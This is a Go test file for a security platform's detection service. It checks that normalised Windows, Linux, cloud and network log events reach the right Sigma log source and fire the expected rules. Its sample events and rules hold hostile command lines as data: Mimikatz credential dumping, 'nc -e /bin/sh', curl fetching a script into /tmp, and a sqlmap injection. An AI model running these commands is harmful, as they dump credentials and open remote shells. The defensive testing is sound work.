package detect

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/opsward/opsward/services/soc/normalize"
	"github.com/opsward/opsward/services/soc/sigma"
)

// sourceCase is one normalised event of a log source and a rule of that
// log source that must match it (and it alone among the cases' rules).
type sourceCase struct {
	name   string
	syslog bool   // arrives over syslog (else in an HTTP batch, as JSON)
	raw    string // the event as sent
	want   sigma.LogSource
	ls     string // the rule's logsource, as YAML flow mapping
	det    string // the rule's detection, as YAML (selection and condition)
}

func (c sourceCase) ruleID(i int) string { return fmt.Sprintf("00000000-0000-4000-8000-%012d", i+1) }

func (c sourceCase) rule(i int) string {
	return fmt.Sprintf("title: %s\nid: %s\nauthor: Opsward tests\nlevel: high\nlogsource: %s\ndetection:\n%s\n", c.name, c.ruleID(i), c.ls, c.det)
}

func evtxEvent(channel string, eid int, data string) string {
	return `{"Event":{"System":{"Provider":{"#attributes":{"Name":"P"}},"EventID":` + fmt.Sprint(eid) +
		`,"TimeCreated":{"#attributes":{"SystemTime":"2026-12-01T10:00:00.000Z"}},"Channel":"` + channel +
		`","Computer":"WS01.corp.example"},"EventData":` + data + `}}`
}

const sysmon = "Microsoft-Windows-Sysmon/Operational"

// sourceCases covers every log source of the README's table.
var sourceCases = []sourceCase{
	{name: "windows sysmon process_creation", raw: evtxEvent(sysmon, 1, `{"Image":"C:\\Tools\\m.exe","CommandLine":"m.exe sekurlsa::logonpasswords","User":"CORP\\bob"}`),
		want: sigma.LogSource{Product: "windows", Category: "process_creation"}, ls: "{product: windows, category: process_creation}",
		det: "  sel: {CommandLine|contains: 'sekurlsa::'}\n  condition: sel"},
	{name: "windows security channel", raw: `{"@timestamp":"2026-12-01T10:00:00Z","winlog":{"channel":"Security","event_id":4625,"computer_name":"DC01","event_data":{"TargetUserName":"administrator","LogonType":"3","IpAddress":"203.0.113.50"}}}`,
		want: sigma.LogSource{Product: "windows", Service: "security"}, ls: "{product: windows, service: security}",
		det: "  sel: {EventID: 4625, TargetUserName: administrator}\n  condition: sel"},
	{name: "windows network_connection", raw: evtxEvent(sysmon, 3, `{"Image":"C:\\Users\\bob\\a.exe","DestinationIp":"198.51.100.9","DestinationPort":4444,"Initiated":"true"}`),
		want: sigma.LogSource{Product: "windows", Category: "network_connection"}, ls: "{product: windows, category: network_connection}",
		det: "  sel: {DestinationPort: 4444, Initiated: 'true'}\n  condition: sel"},
	{name: "windows dns_query", raw: evtxEvent(sysmon, 22, `{"Image":"C:\\Users\\bob\\b.exe","QueryName":"c2.ngrok-free.app"}`),
		want: sigma.LogSource{Product: "windows", Category: "dns_query"}, ls: "{product: windows, category: dns_query}",
		det: "  sel: {QueryName|endswith: '.ngrok-free.app'}\n  condition: sel"},
	{name: "windows file_event", raw: evtxEvent(sysmon, 11, `{"Image":"C:\\Users\\bob\\c.exe","TargetFilename":"C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.vbs"}`),
		want: sigma.LogSource{Product: "windows", Category: "file_event"}, ls: "{product: windows, category: file_event}",
		det: "  sel: {TargetFilename|contains: '\\Start Menu\\Programs\\Startup\\'}\n  condition: sel"},
	{name: "windows registry_set", raw: evtxEvent(sysmon, 13, `{"EventType":"SetValue","Image":"C:\\Users\\bob\\d.exe","TargetObject":"HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd","Details":"C:\\Users\\bob\\d.exe"}`),
		want: sigma.LogSource{Product: "windows", Category: "registry_set"}, ls: "{product: windows, category: registry_set}",
		det: "  sel: {TargetObject|contains: '\\CurrentVersion\\Run\\'}\n  condition: sel"},
	{name: "windows defender", raw: evtxEvent("Microsoft-Windows-Windows Defender/Operational", 1116, `{"Threat Name":"HackTool:Win32/Mimikatz","Source Name":"Real-Time Protection"}`),
		want: sigma.LogSource{Product: "windows", Service: "windefend"}, ls: "{product: windows, service: windefend}",
		det: "  sel: {EventID: 1116, ThreatName|contains: 'Mimikatz'}\n  condition: sel"},
	{name: "windows defender, flat", raw: `{"Channel":"Microsoft-Windows-Windows Defender/Operational","EventID":1117,"Threat Name":"Trojan:Win32/Emotet","Action Name":"Quarantine"}`,
		want: sigma.LogSource{Product: "windows", Service: "windefend"}, ls: "{product: windows, service: windefend}",
		det: "  sel: {EventID: 1117, ThreatName|contains: 'Emotet', ActionName: Quarantine}\n  condition: sel"},
	{name: "windows process_creation from ECS", raw: `{"@timestamp":"2026-12-01T10:00:00Z","host":{"name":"ws02","os":{"type":"windows"}},"event":{"category":["process"],"type":["start"]},"process":{"executable":"C:\\Windows\\System32\\whoami.exe","command_line":"whoami /priv","parent":{"executable":"C:\\Windows\\System32\\cmd.exe"},"hash":{"sha256":"a1b2c3"},"pe":{"imphash":"d4e5f6"}},"user":{"name":"bob","domain":"CORP"}}`,
		want: sigma.LogSource{Product: "windows", Category: "process_creation"}, ls: "{product: windows, category: process_creation}",
		det: "  sel: {Image|endswith: '\\whoami.exe', CommandLine|contains: '/priv', ParentImage|endswith: '\\cmd.exe', User: 'CORP\\bob', Hashes|contains|all: ['SHA256=A1B2C3', 'IMPHASH=D4E5F6']}\n  condition: sel"},
	{name: "linux auth from ECS", raw: `{"@timestamp":"2026-12-01T10:00:00Z","user":{"name":"root"},"event":{"category":"authentication","outcome":"failure"},"source":{"ip":"203.0.113.9"}}`,
		want: sigma.LogSource{Product: "linux", Service: "auth"}, ls: "{product: linux, service: auth}",
		det: "  sel: {event.outcome: failure, user.name: root}\n  condition: sel"},
	{name: "linux sshd from syslog", syslog: true, raw: `<38>Dec  1 10:00:00 web1 sshd[812]: Failed password for invalid user oracle from 203.0.113.9 port 40022 ssh2`,
		want: sigma.LogSource{Product: "linux", Service: "sshd"}, ls: "{product: linux, service: sshd}",
		det: "  keywords: ['Failed password for invalid user oracle']\n  condition: keywords"},
	{name: "linux syslog", syslog: true, raw: `<11>Dec  1 10:00:00 web1 kernel: nginx[2211]: segfault at 0 ip 00007f sp 00007ffd error 4 in libc.so.6`,
		want: sigma.LogSource{Product: "linux", Service: "syslog"}, ls: "{product: linux, service: syslog}",
		det: "  keywords: ['segfault at 0']\n  condition: keywords"},
	{name: "linux auditd", syslog: true, raw: `<14>Dec  1 10:00:00 web1 audispd: type=EXECVE msg=audit(1764583200.123:42): argc=3 a0="nc" a1="-e" a2="/bin/sh"`,
		want: sigma.LogSource{Product: "linux", Service: "auditd"}, ls: "{product: linux, service: auditd}",
		det: "  sel: {type: EXECVE, a0: nc, a1: '-e'}\n  condition: sel"},
	{name: "linux process_creation from auditbeat", raw: `{"@timestamp":"2026-12-01T10:00:00Z","event":{"module":"auditd","category":["process"],"type":["start"],"action":"executed"},"host":{"name":"web1","os":{"type":"linux","family":"debian"}},"auditd":{"message_type":"syscall","data":{"syscall":"execve"}},"process":{"executable":"/usr/bin/curl","args":["curl","-s","http://203.0.113.80/x.sh"],"working_directory":"/tmp"},"user":{"name":"www-data"}}`,
		want: sigma.LogSource{Product: "linux", Category: "process_creation"}, ls: "{product: linux, category: process_creation}",
		det: "  sel: {Image|endswith: '/curl', CommandLine|contains: 'x.sh', CurrentDirectory: /tmp, User: www-data}\n  condition: sel"},
	{name: "linux process_creation from osquery", raw: `{"name":"pack_incident_process_events","hostIdentifier":"web2","calendarTime":"Tue Dec  1 10:00:00 2026 UTC","unixTime":1764583200,"columns":{"path":"/usr/bin/base64","cmdline":"base64 -d /tmp/p","cwd":"/tmp","pid":"4242","parent":"4200"},"action":"added"}`,
		want: sigma.LogSource{Product: "linux", Category: "process_creation"}, ls: "{product: linux, category: process_creation}",
		det: "  sel: {Image|endswith: '/base64', CommandLine|contains: ' -d '}\n  condition: sel"},
	{name: "webserver", raw: `{"@timestamp":"2026-12-01T10:00:00Z","event":{"module":"nginx","category":["web"]},"url":{"original":"/index.php?id=1%27%20union%20select","path":"/index.php","query":"id=1%27%20union%20select"},"http":{"request":{"method":"GET"},"response":{"status_code":200}},"source":{"ip":"203.0.113.5"},"user_agent":{"original":"sqlmap/1.7.2"}}`,
		want: sigma.LogSource{Category: "webserver"}, ls: "{category: webserver}",
		det: "  sel: {cs-user-agent|contains: sqlmap, cs-method: GET, cs-uri-query|contains: union}\n  condition: sel"},
	{name: "proxy", syslog: true, raw: `<134>Dec  1 10:00:00 proxy1 CEF:0|Zscaler|NSSWeblog|5.0|Allowed|Allowed|3|act=Allowed request=http://files.example.net/payload.hta requestMethod=GET requestClientApplication=Mozilla/5.0 src=10.0.0.7 dst=198.51.100.30 dpt=80`,
		want: sigma.LogSource{Category: "proxy"}, ls: "{category: proxy}",
		det: "  sel: {c-uri|endswith: '.hta', cs-method: GET}\n  condition: sel"},
	{name: "firewall", syslog: true, raw: `<134>Dec  1 10:00:00 fw01 date=2026-12-01 time=10:00:00 devname=fw01 type=traffic srcip=203.0.113.7 srcport=51000 dstip=10.0.0.5 dstport=23 proto=6 action=accept`,
		want: sigma.LogSource{Category: "firewall"}, ls: "{category: firewall}",
		det: "  sel: {dst_port: 23}\n  condition: sel"},
	{name: "dns", raw: `{"@timestamp":"2026-12-01T10:00:00Z","event":{"category":["network"],"dataset":"dns.query"},"dns":{"question":{"name":"api.telegram.org","type":"A"}},"source":{"ip":"10.0.0.4"}}`,
		want: sigma.LogSource{Category: "dns"}, ls: "{category: dns}",
		det: "  sel: {query: api.telegram.org}\n  condition: sel"},
	{name: "zeek rdp", raw: `{"ts":1764583204.1,"uid":"CHhAvVGS1DHFjwGM9","id.orig_h":"198.51.100.77","id.orig_p":51000,"id.resp_h":"10.0.0.20","id.resp_p":3389,"cookie":"admin","security_protocol":"HYBRID"}`,
		want: sigma.LogSource{Product: "zeek", Service: "rdp"}, ls: "{product: zeek, service: rdp}",
		det: "  selection: {id.orig_h|cidr: ['10.0.0.0/8', '172.16.0.0/12', '192.168.0.0/16']}\n  condition: not selection"},
	{name: "zeek dns from filebeat", raw: `{"@timestamp":"2026-12-01T10:00:00Z","event":{"module":"zeek","dataset":"zeek.dns"},"source":{"ip":"10.0.0.4","port":53000},"destination":{"ip":"10.0.0.2","port":53},"zeek":{"session_id":"Cx1","dns":{"query":"abc.burpcollaborator.net","qtype_name":"A"}}}`,
		want: sigma.LogSource{Product: "zeek", Service: "dns"}, ls: "{product: zeek, service: dns}",
		det: "  sel: {query|endswith: '.burpcollaborator.net', id.orig_h: 10.0.0.4}\n  condition: sel"},
	{name: "aws cloudtrail", raw: `{"eventVersion":"1.08","eventTime":"2026-12-01T10:00:00Z","eventSource":"iam.amazonaws.com","eventName":"CreateAccessKey","awsRegion":"us-east-1","sourceIPAddress":"203.0.113.10","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::111122223333:user/bob"}}`,
		want: sigma.LogSource{Product: "aws", Service: "cloudtrail"}, ls: "{product: aws, service: cloudtrail}",
		det: "  sel: {eventSource: iam.amazonaws.com, eventName: CreateAccessKey, userIdentity.type: IAMUser}\n  condition: sel"},
	{name: "azure signinlogs", raw: `{"time":"2026-12-01T10:00:00Z","resourceId":"/tenants/00000000-0000-0000-0000-000000000001/providers/Microsoft.aadiam","operationName":"Sign-in activity","category":"SignInLogs","resultType":"50126","resultDescription":"Invalid username or password","properties":{"userPrincipalName":"bob@corp.example","status":{"errorCode":50126}}}`,
		want: sigma.LogSource{Product: "azure", Service: "signinlogs"}, ls: "{product: azure, service: signinlogs}",
		det: "  sel: {ResultType: 50126, Status.errorCode: 50126}\n  condition: sel"},
	{name: "azure activitylogs", raw: `{"time":"2026-12-01T10:00:00Z","resourceId":"/SUBSCRIPTIONS/0000/RESOURCEGROUPS/RG/PROVIDERS/MICROSOFT.COMPUTE/VIRTUALMACHINES/VM1","operationName":"MICROSOFT.COMPUTE/VIRTUALMACHINES/DELETE","category":"Administrative","resultType":"Success"}`,
		want: sigma.LogSource{Product: "azure", Service: "activitylogs"}, ls: "{product: azure, service: activitylogs}",
		det: "  sel: {operationName: MICROSOFT.COMPUTE/VIRTUALMACHINES/DELETE}\n  condition: sel"},
	{name: "gcp audit", raw: `{"logName":"projects/p1/logs/cloudaudit.googleapis.com%2Factivity","timestamp":"2026-12-01T10:00:00Z","protoPayload":{"@type":"type.googleapis.com/google.cloud.audit.AuditLog","serviceName":"compute.googleapis.com","methodName":"v1.compute.firewalls.delete"}}`,
		want: sigma.LogSource{Product: "gcp", Service: "gcp.audit"}, ls: "{product: gcp, service: gcp.audit}",
		det: "  sel: {gcp.audit.method_name: v1.compute.firewalls.delete}\n  condition: sel"},
	{name: "google workspace admin", raw: `{"kind":"admin#reports#activity","id":{"time":"2026-12-01T10:00:00.000Z","uniqueQualifier":"1","applicationName":"admin","customerId":"C01"},"actor":{"email":"admin@corp.example"},"events":[{"type":"APPLICATION_SETTINGS","name":"REMOVE_APPLICATION","parameters":[{"name":"APPLICATION_NAME","value":"Drive"}]}]}`,
		want: sigma.LogSource{Product: "gcp", Service: "google_workspace.admin"}, ls: "{product: gcp, service: google_workspace.admin}",
		det: "  sel: {eventService: admin.googleapis.com, eventName: REMOVE_APPLICATION}\n  condition: sel"},
	{name: "kubernetes audit", raw: `{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"4f2c","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/default/events","verb":"delete","user":{"username":"system:serviceaccount:ci:deployer"},"objectRef":{"resource":"events","namespace":"default","apiVersion":"v1"},"responseStatus":{"code":200},"requestReceivedTimestamp":"2026-12-01T10:00:00.000000Z"}`,
		want: sigma.LogSource{Product: "kubernetes", Category: "application", Service: "audit"}, ls: "{category: application, product: kubernetes, service: audit}",
		det: "  sel: {verb: delete, objectRef.resource: events}\n  condition: sel"},
	{name: "opencanary", raw: `{"dst_host":"10.0.0.50","dst_port":445,"local_time":"2026-12-01 10:00:00.000000","logdata":{"FILENAME":"secrets.xlsx"},"logtype":5000,"node_id":"canary-01","src_host":"10.0.0.66","src_port":50123,"utc_time":"2026-12-01 10:00:00.000000"}`,
		want: sigma.LogSource{Product: "opencanary", Category: "application"}, ls: "{category: application, product: opencanary}",
		det: "  sel: {logtype: 5000}\n  condition: sel"},
	{name: "fortigate event", syslog: true, raw: `<189>date=2026-12-01 time=10:00:00 devname="fw01" devid="FG100FTK19000001" logid="0100044547" type="event" subtype="system" level="information" user="admin" ui="GUI(10.0.0.9)" action="Add" cfgtid=1 cfgpath="firewall.policy" cfgobj="12" msg="Add firewall.policy 12"`,
		want: sigma.LogSource{Product: "fortigate", Service: "event"}, ls: "{product: fortigate, service: event}",
		det: "  sel: {action: Add, cfgpath: firewall.policy}\n  condition: sel"},
	{name: "github audit", raw: `{"@timestamp":1764583200000,"_document_id":"Xq1","action":"repo.destroy","actor":"mallory","org":"corp","repo":"corp/payments","actor_location":{"country_code":"US"}}`,
		want: sigma.LogSource{Product: "github", Service: "audit"}, ls: "{product: github, service: audit}",
		det: "  sel: {action: repo.destroy}\n  condition: sel"},
	{name: "cisco aaa", syslog: true, raw: `<189>Dec  1 10:00:00 core-sw1 1234: Dec  1 10:00:00.123: %PARSER-5-CFGLOG_LOGGEDCMD: User:admin  logged command:show running-config`,
		want: sigma.LogSource{Product: "cisco", Service: "aaa"}, ls: "{product: cisco, service: aaa}",
		det: "  keywords: ['show running-config']\n  condition: keywords"},
	{name: "m365 threat_management", raw: `{"CreationTime":"2026-12-01T10:00:00","Id":"5f1c","Operation":"AlertTriggered","RecordType":40,"Workload":"SecurityComplianceCenter","Name":"Unusual volume of file deletion","ResultStatus":"success","UserId":"SecurityComplianceAlerts"}`,
		want: sigma.LogSource{Product: "m365", Service: "threat_management"}, ls: "{product: m365, service: threat_management}",
		det: "  sel: {eventSource: SecurityComplianceCenter, eventName: Unusual volume of file deletion, status: success}\n  condition: sel"},
	{name: "okta", raw: `{"uuid":"b1f4","published":"2026-12-01T10:00:00.000Z","eventType":"user.mfa.factor.deactivate","displayMessage":"Reset factor for user","actor":{"alternateId":"admin@corp.example"},"outcome":{"result":"SUCCESS"}}`,
		want: sigma.LogSource{Product: "okta", Service: "okta"}, ls: "{product: okta, service: okta}",
		det: "  sel: {eventType: user.mfa.factor.deactivate}\n  condition: sel"},
}

// normalizeCase normalises a case's event as its ingest path does: HTTP
// batches as JSON, syslog messages as the listener hands them on.
func normalizeCase(t testing.TB, c sourceCase) normalize.Event {
	t.Helper()
	hint := normalize.FormatJSON
	if c.syslog {
		hint = normalize.FormatAuto
	}
	ev, err := normalize.Normalize([]byte(c.raw), hint, time.Date(2026, 12, 1, 10, 0, 5, 0, time.UTC))
	if err != nil {
		t.Fatalf("%s: normalise: %v", c.name, err)
	}
	return ev
}

// Each event is routed to its log source, and meets the rule of that log
// source and no other case's rule.
func TestRouteEveryLogSource(t *testing.T) {
	var rules []*sigma.Rule
	for i, c := range sourceCases {
		rs, err := sigma.Parse(c.name, []byte(c.rule(i)))
		if err != nil {
			t.Fatalf("%s: %v", c.name, err)
		}
		rules = append(rules, rs...)
	}
	set := sigma.Compile(rules, sigma.Config{})
	if len(set.Refused) > 0 {
		t.Fatal(set.Refused[0].Err)
	}
	for i, c := range sourceCases {
		t.Run(c.name, func(t *testing.T) {
			ev := normalizeCase(t, c)
			sev, sources := Route(ev)
			if !slices.Contains(sources, c.want) {
				t.Fatalf("routed to %v, want %v among them (format %s, fields %v)", sources, c.want, ev.Format, ev.Fields)
			}
			var got []string
			set.Matches(sev, sources, func(m *sigma.Match) { got = append(got, m.RuleID) })
			if !slices.Equal(got, []string{c.ruleID(i)}) {
				t.Fatalf("matched %v, want only %s; sources %v, event %v", got, c.ruleID(i), sources, sev)
			}
		})
	}
}

// Events of no recognisable log source meet no rule of one, whatever its
// condition: a negated selection on another product's fields does not
// fire on them.
func TestRouteUnknownMeetsNoLogsourceRule(t *testing.T) {
	rs, err := sigma.Parse("neg.yml", []byte("title: neg\nid: neg\nlogsource: {product: zeek, service: rdp}\ndetection:\n  s: {id.orig_h|cidr: 10.0.0.0/8}\n  condition: not s\n"))
	if err != nil {
		t.Fatal(err)
	}
	any, _ := sigma.Parse("any.yml", []byte("title: any\nid: any\nlogsource: {}\ndetection:\n  s: {note: hello}\n  condition: s\n"))
	set := sigma.Compile(append(rs, any...), sigma.Config{})
	for _, raw := range []string{`{"note":"hello"}`, `{"note":"hello","src_ip":"10.0.0.1","dst_ip":"10.0.0.2","dst_port":22}`} {
		ev, err := normalize.Normalize([]byte(raw), normalize.FormatJSON, time.Now())
		if err != nil {
			t.Fatal(err)
		}
		sev, sources := Route(ev)
		var got []string
		set.Matches(sev, sources, func(m *sigma.Match) { got = append(got, m.RuleID) })
		if !slices.Equal(got, []string{"any"}) {
			t.Fatalf("%s (sources %v): matched %v, want only the rule without a logsource", raw, sources, got)
		}
	}
}

// The README documents every log source the router gives.
func TestReadmeDocumentsLogSources(t *testing.T) {
	root, err := moduleRoot()
	if err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(filepath.Join(root, "README.md"))
	if err != nil {
		t.Fatal(err)
	}
	readme := string(b)
	i := strings.Index(readme, "## Sigma log sources")
	if i < 0 {
		t.Fatal("README.md has no section \"## Sigma log sources\"")
	}
	section := readme[i:]
	if j := strings.Index(section[3:], "\n## "); j >= 0 {
		section = section[:j+3]
	}
	for _, c := range sourceCases {
		want := "`" + strings.TrimRight(c.want.String(), "/") + "`"
		if !strings.Contains(section, want) {
			t.Errorf("the README's table does not name %s (%s)", want, c.name)
		}
	}
}

// testDetectionRule's service function routes as ingest does: each rule
// matches, among the JSON events of every log source, the one of its own
// log source alone (before, it matched against any log source).
func TestTestRuleRoutesAsIngest(t *testing.T) {
	s := &Service{Deps: Deps{Now: time.Now}}
	var evs []map[string]any
	var idx []int // event index of each JSON case, else -1
	for _, c := range sourceCases {
		if c.syslog {
			idx = append(idx, -1)
			continue
		}
		var m map[string]any
		if err := json.Unmarshal([]byte(c.raw), &m); err != nil {
			t.Fatalf("%s: %v", c.name, err)
		}
		idx = append(idx, len(evs))
		evs = append(evs, m)
	}
	for i, c := range sourceCases {
		if c.syslog {
			continue
		}
		res, err := s.TestRule(context.Background(), c.rule(i), evs)
		if err != nil || res.Err != nil {
			t.Fatalf("%s: %v %v", c.name, err, res)
		}
		if !slices.Equal(res.Matches, []int{idx[i]}) {
			t.Errorf("%s: matched events %v, want [%d]", c.name, res.Matches, idx[i])
		}
	}
}

// librarySamples: for the cases that carry what a SigmaHQ rule looks for,
// the id of that rule, which must match the event once it is routed.
var librarySamples = map[string]string{
	"windows sysmon process_creation":       "06d71506-7beb-4f22-8888-e2e5e2ca7fd8", // Mimikatz Use
	"windows security channel":              "f88e112a-21aa-44bd-9b01-6ee2a2bbbed1", // Failed Logon From Public IP
	"windows network_connection":            "4b89abaa-99fe-4232-afdd-8f9aa4d20382",
	"windows file_event":                    "2aa0a6b4-a865-495b-ab51-c28249537b75",
	"windows registry_set":                  "20f0ee37-5942-4e45-b7d5-c5b5db9df5cd",
	"windows defender":                      "57b649ef-ff42-4fb0-8bf6-62da243a1708",
	"windows defender, flat":                "57b649ef-ff42-4fb0-8bf6-62da243a1708",
	"windows process_creation from ECS":     "502b42de-4306-40b4-9596-6f590c81f073",
	"linux process_creation from auditbeat": "ea34fb97-e2c4-4afb-810f-785e4459b194",
	"linux process_creation from osquery":   "2aa1440c-9ae9-4d92-84a7-a9e5f5e31695",
	"webserver":                             "5513deaf-f49a-46c2-a6c8-3f111b5cb453",
	"proxy":                                 "fdd1bfb5-f60b-4a35-910e-f36ed3d0b32f",
	"firewall":                              "d7fb8f0e-bd5f-45c2-b467-19571c490d7e",
	"dns":                                   "c64c5175-5189-431b-a55e-6d9882158251",
	"zeek rdp":                              "1fc0809e-06bf-4de3-ad52-25e5263b7623",
	"zeek dns from filebeat":                "ede05abc-2c9e-4624-9944-9ff17fdc0bf5",
	"aws cloudtrail":                        "0a5177f4-6ca9-44c2-aacf-d3f3d8b6e4d2",
	"gcp audit":                             "fe513c69-734c-4d4a-8548-ac5f609be82b",
	"google workspace admin":                "ee2803f0-71c8-4831-b48b-a1fc57601ee4",
	"kubernetes audit":                      "3132570d-cab2-4561-9ea6-1743644b2290",
	"opencanary":                            "22777c9e-873a-4b49-855f-6072ab861a52",
	"fortigate event":                       "f24ab7a8-f09a-4319-82c1-915586aa642b",
	"github audit":                          "16a71777-0b2e-4db7-9888-9d59cb75200b",
	"cisco aaa":                             "cd072b25-a418-4f98-8ebc-5093fb38fe1a",
	"m365 threat_management":                "78a34b67-3c39-4886-8fb4-61c46dc18ecd",
	"okta":                                  "50e068d7-1e6b-4054-87e5-0a592c40c7e0",
}

// The SigmaHQ library's own rules, compiled as the platform compiles
// them, match the events of their log sources once routed.
func TestLibraryRulesMatchRoutedEvents(t *testing.T) {
	root, err := sharedSigmaDir()
	if err != nil {
		t.Skip(err.Error())
	}
	dirs, _ := filepath.Glob(filepath.Join(root, "rules*"))
	rules, errs := sigma.LoadDir(dirs...)
	if len(errs) > 0 {
		t.Fatal(errs[0])
	}
	set := sigma.Compile(rules, compileConfig())
	seen := 0
	for _, c := range sourceCases {
		want, ok := librarySamples[c.name]
		if !ok {
			continue
		}
		seen++
		sev, sources := Route(normalizeCase(t, c))
		var got []string
		set.Matches(sev, sources, func(m *sigma.Match) { got = append(got, m.RuleID) })
		if !slices.Contains(got, want) {
			t.Errorf("%s (routed to %v): SigmaHQ rule %s did not match; matched %v", c.name, sources, want, got)
		}
	}
	if seen != len(librarySamples) {
		t.Errorf("%d of %d library samples name a case", seen, len(librarySamples))
	}
}
